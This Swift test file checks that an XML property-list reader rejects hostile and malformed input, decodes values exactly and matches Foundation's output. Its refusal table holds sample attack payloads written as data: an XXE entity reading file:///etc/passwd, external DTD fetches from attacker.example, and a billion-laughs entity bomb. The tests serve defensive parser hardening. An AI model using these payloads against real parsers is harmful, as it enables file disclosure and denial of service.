import Foundation
import Testing
@testable import ArchiveGateCore

/// Tests of the XML property-list reader: hostile constructs are refused with the right code,
/// values decode exactly, and the reader agrees with what Foundation writes.
struct XMLPropertyListReaderTests {
    // MARK: - Refused input

    struct Refusal: Sendable, CustomTestStringConvertible {
        let rule: String
        let xml: String
        let code: PropertyListError.Code
        var testDescription: String { rule }
    }

    static let refusals: [Refusal] = [
        // DTDs and entities: nothing is declared, expanded or fetched.
        .init(rule: "DOCTYPE internal subset", xml: "<!DOCTYPE plist [ <!ENTITY x \"y\"> ]>" + wrap("<string>&x;</string>"), code: .forbiddenXMLConstruct),
        .init(rule: "DOCTYPE PUBLIC with internal subset", xml: "<!DOCTYPE plist PUBLIC \"a\" \"b\" [ ]>" + wrap("<true/>"), code: .forbiddenXMLConstruct),
        .init(rule: "billion laughs", xml: "<!DOCTYPE plist [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>" + wrap("<string>&b;</string>"), code: .forbiddenXMLConstruct),
        .init(rule: "ENTITY declaration outside a DOCTYPE", xml: "<!ENTITY x \"y\">" + wrap("<true/>"), code: .forbiddenXMLConstruct),
        .init(rule: "ENTITY declaration inside content", xml: wrap("<array><!ENTITY x \"y\"></array>"), code: .forbiddenXMLConstruct),
        .init(rule: "undefined entity", xml: wrap("<string>&foo;</string>"), code: .forbiddenXMLConstruct),
        .init(rule: "undefined entity in a key", xml: wrap("<dict><key>&foo;</key><true/></dict>"), code: .forbiddenXMLConstruct),
        .init(rule: "undefined entity in an attribute", xml: "<plist version=\"&foo;\"><true/></plist>", code: .forbiddenXMLConstruct),
        .init(rule: "external entity", xml: "<!DOCTYPE plist [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + wrap("<string>&xxe;</string>"), code: .forbiddenXMLConstruct),
        .init(rule: "external parameter entity", xml: "<!DOCTYPE plist [<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\"> %ext;]>" + wrap("<true/>"), code: .forbiddenXMLConstruct),
        .init(rule: "external DTD by SYSTEM", xml: "<!DOCTYPE plist SYSTEM \"http://attacker.example/x.dtd\">" + wrap("<true/>"), code: .forbiddenXMLConstruct),
        .init(rule: "processing instruction", xml: "<?xml version=\"1.0\"?><?xml-stylesheet href=\"x.xsl\"?>" + wrap("<true/>"), code: .forbiddenXMLConstruct),
        .init(rule: "processing instruction inside content", xml: wrap("<array><?php echo 1; ?></array>"), code: .forbiddenXMLConstruct),
        // Well-formedness and the plist vocabulary.
        .init(rule: "unknown element", xml: wrap("<foo/>"), code: .invalidXML),
        .init(rule: "element inside a string", xml: wrap("<string>a<b/>c</string>"), code: .invalidXML),
        .init(rule: "comment inside a string", xml: wrap("<string>a<!-- x -->c</string>"), code: .invalidXML),
        .init(rule: "attribute on a value", xml: wrap("<string id=\"1\">a</string>"), code: .invalidXML),
        .init(rule: "key outside a dict", xml: wrap("<array><key>a</key></array>"), code: .invalidXML),
        .init(rule: "dict value without a key", xml: wrap("<dict><string>a</string></dict>"), code: .invalidXML),
        .init(rule: "dict key without a value", xml: wrap("<dict><key>a</key></dict>"), code: .invalidXML),
        .init(rule: "two keys in a row", xml: wrap("<dict><key>a</key><key>b</key><true/></dict>"), code: .invalidXML),
        .init(rule: "two values in plist", xml: wrap("<true/><false/>"), code: .invalidXML),
        .init(rule: "empty plist", xml: wrap(""), code: .invalidXML),
        .init(rule: "self-closing plist", xml: "<plist/>", code: .invalidXML),
        .init(rule: "root other than plist", xml: "<dict></dict>", code: .invalidXML),
        .init(rule: "mismatched end tag", xml: wrap("<array></dict>"), code: .invalidXML),
        .init(rule: "text between elements", xml: wrap("<array>text</array>"), code: .invalidXML),
        .init(rule: "CDATA outside a string", xml: wrap("<array><![CDATA[x]]></array>"), code: .invalidXML),
        .init(rule: "content in a boolean", xml: wrap("<true>yes</true>"), code: .invalidXML),
        .init(rule: "bare ampersand", xml: wrap("<string>a & b</string>"), code: .invalidXML),
        .init(rule: "character reference to a surrogate", xml: wrap("<string>&#xD800;</string>"), code: .invalidXML),
        .init(rule: "character reference beyond Unicode", xml: wrap("<string>&#x110000;</string>"), code: .invalidXML),
        .init(rule: "character reference to NUL", xml: wrap("<string>&#0;</string>"), code: .invalidXML),
        .init(rule: "encoding other than UTF-8", xml: "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + wrap("<true/>"), code: .invalidXML),
        .init(rule: "DOCTYPE naming another element", xml: "<!DOCTYPE html>" + wrap("<true/>"), code: .invalidXML),
        // Truncation.
        .init(rule: "truncated inside a string", xml: "<plist><dict><key>a</key><string>b", code: .truncated),
        .init(rule: "truncated inside a container", xml: "<plist><array><true/>", code: .truncated),
        .init(rule: "truncated inside a tag", xml: "<plist><arr", code: .truncated),
        .init(rule: "truncated before plist", xml: "<?xml version=\"1.0\"?>", code: .truncated),
        .init(rule: "unclosed comment", xml: "<plist><!-- <true/></plist>", code: .truncated),
        .init(rule: "unclosed CDATA", xml: wrap("<string><![CDATA[abc</string>"), code: .truncated),
        // Scalars.
        .init(rule: "bad base64 character", xml: wrap("<data>AAA*</data>"), code: .invalidBase64),
        .init(rule: "base64 after padding", xml: wrap("<data>AA==AAAA</data>"), code: .invalidBase64),
        .init(rule: "base64 group of one", xml: wrap("<data>AAAAB</data>"), code: .invalidBase64),
        .init(rule: "base64 with too much padding", xml: wrap("<data>AA===</data>"), code: .invalidBase64),
        .init(rule: "integer with letters", xml: wrap("<integer>12a</integer>"), code: .invalidInteger),
        .init(rule: "empty integer", xml: wrap("<integer></integer>"), code: .invalidInteger),
        .init(rule: "self-closing integer", xml: wrap("<integer/>"), code: .invalidInteger),
        .init(rule: "hex prefix without digits", xml: wrap("<integer>0x</integer>"), code: .invalidInteger),
        .init(rule: "fraction in an integer", xml: wrap("<integer>1.5</integer>"), code: .invalidInteger),
        .init(rule: "entity in an integer", xml: wrap("<integer>&#49;</integer>"), code: .invalidInteger),
        .init(rule: "integer of 2^127", xml: wrap("<integer>170141183460469231731687303715884105728</integer>"), code: .invalidInteger),
        .init(rule: "integer below -2^127", xml: wrap("<integer>-170141183460469231731687303715884105729</integer>"), code: .invalidInteger),
        .init(rule: "integer beyond 128 bits", xml: wrap("<integer>0x100000000000000000000000000000000</integer>"), code: .invalidInteger),
        .init(rule: "integer of many digits", xml: wrap("<integer>" + String(repeating: "9", count: 5_000) + "</integer>"), code: .invalidInteger),
        .init(rule: "malformed real", xml: wrap("<real>1.2.3</real>"), code: .invalidReal),
        .init(rule: "hex real", xml: wrap("<real>0x1p3</real>"), code: .invalidReal),
        .init(rule: "real exponent without digits", xml: wrap("<real>1e</real>"), code: .invalidReal),
        .init(rule: "real of an attacker's length", xml: wrap("<real>" + String(repeating: "1", count: 2_000) + "</real>"), code: .invalidReal),
        .init(rule: "date without a time", xml: wrap("<date>2001-01-01</date>"), code: .invalidDate),
        .init(rule: "date on a day that does not exist", xml: wrap("<date>2001-02-29T00:00:00Z</date>"), code: .invalidDate),
        .init(rule: "date with an hour of 24", xml: wrap("<date>2001-01-01T24:00:00Z</date>"), code: .invalidDate),
        .init(rule: "date with an offset", xml: wrap("<date>2001-01-01T00:00:00+01:00</date>"), code: .invalidDate),
        // Archive rules.
        .init(rule: "duplicate key", xml: wrap("<dict><key>a</key><true/><key>a</key><false/></dict>"), code: .duplicateKey),
        .init(rule: "duplicate key spelled with a reference", xml: wrap("<dict><key>a</key><true/><key>&#97;</key><false/></dict>"), code: .duplicateKey),
        .init(rule: "CF$UID beyond 32 bits", xml: wrap("<dict><key>CF$UID</key><integer>4294967296</integer></dict>"), code: .invalidUID),
        .init(rule: "negative CF$UID", xml: wrap("<dict><key>CF$UID</key><integer>-1</integer></dict>"), code: .invalidUID),
    ]

    @Test(arguments: refusals)
    func refusesInput(_ refusal: Refusal) {
        #expect(errorCode(refusal.xml) == refusal.code)
    }

    @Test(arguments: [
        ("invalid lead byte", [0xC3, 0x28] as [UInt8]),
        ("overlong slash", [0xC0, 0xAF]),
        ("UTF-8 encoded surrogate", [0xED, 0xA0, 0x80]),
        ("beyond U+10FFFF", [0xF4, 0x90, 0x80, 0x80]),
        ("sequence cut by the end tag", [0xE2, 0x82]),
        ("stray continuation byte", [0x80]),
    ])
    func invalidUTF8IsRefused(_ rule: String, _ text: [UInt8]) {
        let bytes = Array("<plist><dict><key>k</key><string>ok ".utf8) + text + Array(" </string></dict></plist>".utf8)
        #expect(errorCode(bytes) == .invalidString, "\(rule)")
        let inKey = Array("<plist><dict><key>".utf8) + text + Array("</key><true/></dict></plist>".utf8)
        #expect(errorCode(inKey) == .invalidString, "\(rule) in a key")
    }

    @Test func errorsCarryTheLine() {
        let xml = "<plist>\n<dict>\n<key>a</key>\n<integer>x</integer>\n</dict>\n</plist>"
        #expect(throws: PropertyListError(.invalidInteger, "")) { try read(xml) }
        do {
            _ = try read(xml)
        } catch {
            #expect(error.line == 4)
            #expect(error.offset == nil)
            #expect(!error.message.isEmpty)
        }
    }

    @Test func duplicateKeyReportsTheDictionaryLine() {
        do {
            _ = try read("<plist>\n<array>\n<dict>\n<key>a</key><true/>\n<key>a</key><true/>\n</dict></array></plist>")
            Issue.record("expected a duplicate-key error")
        } catch {
            #expect(error.code == .duplicateKey)
            #expect(error.line == 3)
        }
    }

    // MARK: - Limits

    @Test func deepNestingFailsFastWithoutRecursion() {
        let depth = 100_000
        let xml = "<plist>" + String(repeating: "<array>", count: depth) + String(repeating: "</array>", count: depth) + "</plist>"
        let clock = ContinuousClock()
        var code: PropertyListError.Code?
        let elapsed = clock.measure { code = errorCode(xml) }
        #expect(code == .depthLimitExceeded)
        #expect(elapsed < .milliseconds(100))
    }

    @Test func depthLimitIsInclusive() throws {
        func nested(_ depth: Int) -> String {
            wrap(String(repeating: "<array>", count: depth) + String(repeating: "</array>", count: depth))
        }
        let deepest = try read(nested(512))
        #expect(deepest.objects.count == 512)
        #expect(errorCode(nested(513)) == .depthLimitExceeded)
        #expect(errorCode(nested(3), limits: PropertyListLimits(maxDepth: 2)) == .depthLimitExceeded)
        // Empty containers open nothing, so they do not count.
        #expect(throws: Never.self) { try read(wrap("<array><array/></array>"), limits: PropertyListLimits(maxDepth: 1)) }
    }

    @Test func sizeAndCountLimits() {
        let limits = PropertyListLimits(maxObjects: 3, maxStringBytes: 4, maxDataBytes: 4)
        #expect(errorCode(wrap("<string>abcde</string>"), limits: limits) == .stringTooLarge)
        #expect(errorCode(wrap("<string>abcd&amp;</string>"), limits: limits) == .stringTooLarge)
        #expect(errorCode(wrap("<string><![CDATA[abcde]]></string>"), limits: limits) == .stringTooLarge)
        #expect(errorCode(wrap("<dict><key>abcde</key><true/></dict>"), limits: limits) == .stringTooLarge)
        #expect(errorCode(wrap("<data>AAAAAAA=</data>"), limits: limits) == .dataTooLarge)
        #expect(errorCode(wrap("<array><true/><true/><true/></array>"), limits: limits) == .objectLimitExceeded)
        #expect(throws: Never.self) { try read(wrap("<array><string>abcd</string><data>AAAAAA==</data></array>"), limits: limits) }
    }

    // MARK: - Values

    @Test func readsEveryKindOfValue() throws {
        let plist = try read(wrap("""
            <dict>
                <key>string</key><string>plain</string>
                <key>integer</key><integer> -42 </integer>
                <key>real</key><real>2.5</real>
                <key>yes</key><true/>
                <key>no</key><false></false>
                <key>date</key><date>2004-11-29T21:33:09Z</date>
                <key>data</key><data>
                    AAEC
                    /w==
                </data>
                <key>array</key><array><string/><dict/><array/><data/></array>
            </dict>
            """))
        let root = plist.root
        #expect(plist[root].kind == .dictionary)
        #expect(plist.count(of: root) == 8)
        let keys = (0 ..< 8).map { plist.string(at: plist.dictionaryKey(root, pair: $0)) }
        #expect(keys == ["string", "integer", "real", "yes", "no", "date", "data", "array"])
        #expect(plist.dictionaryValue(root, forKey: "string").flatMap(plist.string(at:)) == "plain")
        #expect(plist.dictionaryValue(root, forKey: "integer").flatMap(plist.int64(at:)) == -42)
        #expect(plist.dictionaryValue(root, forKey: "real").flatMap(plist.double(at:)) == 2.5)
        #expect(plist.dictionaryValue(root, forKey: "yes").map { plist[$0] } == PropertyListObject(kind: .bool, first: 1))
        #expect(plist.dictionaryValue(root, forKey: "no").map { plist[$0] } == PropertyListObject(kind: .bool, first: 0))
        #expect(plist.dictionaryValue(root, forKey: "date").flatMap(plist.double(at:)) == 123_456_789)
        #expect(plist.dictionaryValue(root, forKey: "data").flatMap(plist.data(at:)).map(Array.init) == [0, 1, 2, 255])
        let array = try #require(plist.dictionaryValue(root, forKey: "array"))
        let elements = plist.children(of: array).map { plist[Int($0)] }
        #expect(elements.map(\.kind) == [.utf8String, .dictionary, .array, .data])
        #expect(elements.allSatisfy { $0.second == 0 })
        #expect(plist.format == .xml)
    }

    @Test(arguments: [
        ("0", Int128(0)), ("-0", 0), ("+7", 7), ("007", 7), ("0x10", 16), ("0XfF", 255), ("-0x10", -16),
        ("9223372036854775807", Int128(Int64.max)), ("-9223372036854775808", Int128(Int64.min)),
        ("18446744073709551615", Int128(UInt64.max)), ("0xFFFFFFFFFFFFFFFF", Int128(UInt64.max)),
        ("170141183460469231731687303715884105727", Int128.max),
        ("-170141183460469231731687303715884105728", Int128.min),
    ])
    func readsIntegers(_ text: String, _ expected: Int128) throws {
        let plist = try read(wrap("<integer>\(text)</integer>"))
        let object = plist[plist.root]
        #expect(object.kind == .integer)
        #expect(plist.integer128(object) == expected)
        #expect(object.first == UInt64(truncatingIfNeeded: expected))
        #expect(object.second == UInt64(truncatingIfNeeded: expected >> 64))
    }

    @Test(arguments: [
        ("2.5", 2.5), ("-1e3", -1000), (".5", 0.5), ("1.", 1), ("+2.5E-3", 0.0025), ("3.1400000000000001", 3.14),
        ("inf", .infinity), ("+inf", .infinity), ("-inf", -.infinity), ("INF", .infinity), ("-Infinity", -.infinity),
        ("1e999", .infinity),
    ])
    func readsReals(_ text: String, _ expected: Double) throws {
        let plist = try read(wrap("<real>\(text)</real>"))
        #expect(plist[plist.root].kind == .real)
        #expect(plist.double(at: plist.root) == expected)
    }

    @Test(arguments: ["nan", "NaN", "NAN", " nan "])
    func readsNaN(_ text: String) throws {
        let plist = try read(wrap("<real>\(text)</real>"))
        #expect(plist.double(at: plist.root)?.isNaN == true)
    }

    @Test(arguments: [
        ("2001-01-01T00:00:00Z", 0.0), ("1970-01-01T00:00:00Z", -978_307_200), ("2001-01-01T00:00:01Z", 1),
        ("2000-12-31T23:59:59Z", -1), ("2000-02-29T12:00:00Z", -26_481_600), ("2004-11-29T21:33:09Z", 123_456_789),
        ("1600-03-01T00:00:00Z", -12_649_219_200), ("4001-01-01T00:00:00Z", 63_113_904_000),
    ])
    func readsDates(_ text: String, _ expected: Double) throws {
        let plist = try read(wrap("<date>\(text)</date>"))
        #expect(plist[plist.root].kind == .date)
        #expect(plist.double(at: plist.root) == expected)
    }

    @Test func readsUnicodeReferencesAndCDATA() throws {
        let plist = try read(wrap("""
            <array>
            <string>héllo, 日本, 😀</string>
            <string>&#65;&#x42;&#x1F600;&#233;&#x10FFFF;</string>
            <string>&lt;&gt;&amp;&quot;&apos;</string>
            <string>a<![CDATA[<not> &markup;]]>b</string>
            <string>  keeps
             whitespace  </string>
            </array>
            """))
        let strings = plist.children(of: plist.root).map { plist.string(at: Int($0)) }
        #expect(strings == ["héllo, 日本, 😀", "AB😀é\u{10FFFF}", "<>&\"'", "a<not> &markup;b", "  keeps\n whitespace  "])
        #expect(plist.children(of: plist.root).allSatisfy { plist[Int($0)].kind == .utf8String })
    }

    @Test func acceptsTheUsualProlog() throws {
        let bom = "\u{FEFF}"
        let variants = [
            wrap("<true/>"),
            "<plist><true/></plist>",
            bom + "\n  <plist version=\"1.0\"><true/></plist>\n",
            "<?xml version='1.0' encoding='utf-8' standalone='yes'?><!-- c --><!DOCTYPE plist><plist><!-- c --><true/><!-- c --></plist><!-- c -->",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\" >\n<true />\n</plist >\n",
        ]
        for xml in variants {
            let plist = try read(xml)
            #expect(plist[plist.root] == PropertyListObject(kind: .bool, first: 1), "\(xml)")
            #expect(XMLPropertyListReader.looksLikeXML(Array(xml.utf8)))
        }
        #expect(!XMLPropertyListReader.looksLikeXML(Array("bplist00".utf8)))
        #expect(!XMLPropertyListReader.looksLikeXML([]))
        // The format dispatch finds XML too.
        #expect(try PropertyList.read(Array((bom + " " + wrap("<false/>")).utf8)).format == .xml)
    }

    // MARK: - Keyed-archive UIDs

    @Test func convertsCFUIDDictionariesToUIDs() throws {
        let plist = try read(wrap("""
            <array>
                <dict><key>CF$UID</key><integer>7</integer></dict>
                <dict><key>CF$UID</key><integer>4294967295</integer></dict>
                <dict><key>CF$UID</key><string>7</string></dict>
                <dict><key>CF$UID</key><integer>1</integer><key>other</key><true/></dict>
            </array>
            """))
        let elements = plist.children(of: plist.root).map(Int.init)
        #expect(plist.uid(at: elements[0]) == 7)
        #expect(plist.uid(at: elements[1]) == Int(UInt32.max))
        #expect(plist[elements[2]].kind == .dictionary)
        #expect(plist[elements[3]].kind == .dictionary)
        // A converted UID replaces its key and number, leaving no orphan objects or bytes behind.
        let single = try read(wrap("<dict><key>CF$UID</key><integer>3</integer></dict>"))
        #expect(Array(single.objects) == [PropertyListObject(kind: .uid, first: 3)])
        #expect(single.bytes.isEmpty)
        #expect(single.root == 0)
    }

    // MARK: - Against Foundation

    static var foundationValues: [String: Any] { [
        "string": "héllo 😀 <tag> & \"quotes\" 'apostrophes'",
        "empty": "",
        "integers": [0, 1, -1, 42, Int.max, Int.min],
        "big": UInt64.max,
        "reals": [0.0, 3.14, -2.5e-300, 1e300, 1.0 / 3.0],
        "flags": [true, false],
        "dates": [Date(timeIntervalSinceReferenceDate: 0), Date(timeIntervalSince1970: 0),
                  Date(timeIntervalSinceReferenceDate: 123_456_789), Date(timeIntervalSinceReferenceDate: -3_000_000_000)],
        "data": Data((0 ..< 300).map { UInt8($0 & 0xFF) }),
        "emptyData": Data(),
        "nested": ["inner": ["a", ["b": 2] as [String: Any]] as [Any], "emptyArray": [Any](), "emptyDict": [String: Any]()] as [String: Any],
    ] }

    @Test func readsWhatFoundationWrites() throws {
        let written = try PropertyListSerialization.data(fromPropertyList: Self.foundationValues, format: .xml, options: 0)
        let plist = try XMLPropertyListReader(bytes: Array(written), limits: .init()).read()
        expectSame(plist, plist.root, Self.foundationValues)
        for value in Self.foundationValues.values {
            let alone = try PropertyListSerialization.data(fromPropertyList: [value], format: .xml, options: 0)
            let read = try XMLPropertyListReader(bytes: Array(alone), limits: .init()).read()
            expectSame(read, read.root, [value])
        }
    }

    @Test func readsAnXMLKeyedArchiveFromFoundation() throws {
        let archiver = NSKeyedArchiver(requiringSecureCoding: false)
        archiver.outputFormat = .xml
        archiver.encode(["first", "second"] as NSArray, forKey: "root")
        archiver.finishEncoding()
        let plist = try PropertyList.read(Array(archiver.encodedData))
        #expect(plist.format == .xml)
        let top = try #require(plist.dictionaryValue(plist.root, forKey: "$top"))
        let objects = try #require(plist.dictionaryValue(plist.root, forKey: "$objects"))
        let rootUID = try #require(plist.dictionaryValue(top, forKey: "root").flatMap(plist.uid(at:)))
        #expect(rootUID < plist.count(of: objects))
        #expect(plist.dictionaryValue(plist.root, forKey: "$archiver").flatMap(plist.string(at:)) == "NSKeyedArchiver")
    }

    // MARK: - Public corpus

    static let corpus = SharedMaterial.corpus.path

    @Test(.enabled(if: SharedMaterial.hasCorpus, Comment(rawValue: SharedMaterial.corpusAbsent)))
    func readsEveryXMLFileInThePublicCorpus() throws {
        let files = FileManager.default
        let paths = try #require(files.subpaths(atPath: Self.corpus), "cannot list \(Self.corpus)")
        var read = 0
        for name in paths.sorted() {
            var isDirectory: ObjCBool = false
            let path = Self.corpus + "/" + name
            guard files.fileExists(atPath: path, isDirectory: &isDirectory), !isDirectory.boolValue else { continue }
            let bytes = try Array(Data(contentsOf: URL(fileURLWithPath: path)))
            guard bytes.starts(with: Array("<?xml".utf8)) || bytes.starts(with: Array("<plist".utf8)) else { continue }
            do {
                let plist = try PropertyList.read(bytes)
                read += 1
                #expect(plist.format == .xml, "\(name)")
                // Every {CF$UID: n} dictionary became a UID.
                for index in plist.objects.indices where plist[index].kind == .dictionary {
                    #expect(plist.dictionaryValue(index, forKey: "CF$UID") == nil, "\(name): dictionary \(index)")
                }
            } catch {
                Issue.record("\(name): \(error)")
            }
        }
        #expect(read >= 10)

        let broken = try Array(Data(contentsOf: URL(fileURLWithPath: Self.corpus + "/go-ios/broken_plist.xml")))
        #expect(throws: PropertyListError.self) { try PropertyList.read(broken) }
        #expect(throws: PropertyListError.self) { try XMLPropertyListReader(bytes: broken, limits: .init()).read() }
    }
}

// MARK: - Helpers

private func wrap(_ body: String) -> String {
    """
    <?xml version="1.0" encoding="UTF-8"?>
    <!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
    <plist version="1.0">
    \(body)
    </plist>

    """
}

private func read(_ xml: String, limits: PropertyListLimits = .init()) throws(PropertyListError) -> PropertyList {
    try XMLPropertyListReader(bytes: Array(xml.utf8), limits: limits).read()
}

private func errorCode(_ xml: String, limits: PropertyListLimits = .init()) -> PropertyListError.Code? {
    errorCode(Array(xml.utf8), limits: limits)
}

private func errorCode(_ bytes: [UInt8], limits: PropertyListLimits = .init()) -> PropertyListError.Code? {
    do {
        _ = try XMLPropertyListReader(bytes: bytes, limits: limits).read()
        return nil
    } catch {
        return error.code
    }
}

/// Expects object `index` of `plist` to hold `value`, a tree of Foundation property-list values.
private func expectSame(_ plist: PropertyList, _ index: Int, _ value: Any, sourceLocation: SourceLocation = #_sourceLocation) {
    let object = plist[index]
    switch value {
    case let string as String:
        #expect(plist.string(at: index) == string, sourceLocation: sourceLocation)
    case let flag as Bool:
        #expect(object == PropertyListObject(kind: .bool, first: flag ? 1 : 0), sourceLocation: sourceLocation)
    case let integer as Int:
        #expect(plist.int64(at: index) == Int64(integer), sourceLocation: sourceLocation)
    case let integer as UInt64:
        #expect(object.kind == .integer && plist.integer128(object) == Int128(integer), sourceLocation: sourceLocation)
    case let real as Double:
        #expect(object.kind == .real && plist.double(at: index) == real, sourceLocation: sourceLocation)
    case let date as Date:
        #expect(object.kind == .date && plist.double(at: index) == date.timeIntervalSinceReferenceDate, sourceLocation: sourceLocation)
    case let data as Data:
        #expect(plist.data(at: index).map(Array.init) == Array(data), sourceLocation: sourceLocation)
    case let array as [Any]:
        #expect(object.kind == .array && plist.count(of: index) == array.count, sourceLocation: sourceLocation)
        guard object.kind == .array, plist.count(of: index) == array.count else { return }
        for (child, element) in zip(plist.children(of: index), array) {
            expectSame(plist, Int(child), element, sourceLocation: sourceLocation)
        }
    case let dictionary as [String: Any]:
        #expect(object.kind == .dictionary && plist.count(of: index) == dictionary.count, sourceLocation: sourceLocation)
        guard object.kind == .dictionary else { return }
        for pair in 0 ..< plist.count(of: index) {
            let key = plist.string(at: plist.dictionaryKey(index, pair: pair)) ?? ""
            guard let expected = dictionary[key] else {
                Issue.record("unexpected key \(key)", sourceLocation: sourceLocation)
                continue
            }
            expectSame(plist, plist.dictionaryValue(index, pair: pair), expected, sourceLocation: sourceLocation)
        }
    default:
        Issue.record("unsupported value \(value)", sourceLocation: sourceLocation)
    }
}
